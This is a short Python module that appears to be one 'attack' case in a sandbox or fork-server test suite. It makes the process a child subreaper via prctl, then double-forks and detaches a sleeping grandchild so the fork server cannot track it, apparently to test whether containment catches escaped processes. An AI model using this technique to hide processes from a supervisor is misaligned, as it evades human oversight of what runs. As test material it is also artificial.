"""Become the one who inherits orphaned processes, so that the fork server does not find them."""

import ctypes
import os
import time

FAMILY = "signals"
PR_SET_CHILD_SUBREAPER = 36


def checked(result):
    """The result of a call into libc. Raises OSError."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack(world):
    libc = ctypes.CDLL(None, use_errno=True)
    checked(libc.prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0))
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 256)
            time.sleep(60)
        os._exit(0)
    os.waitpid(child, 0)
    return "inherited"
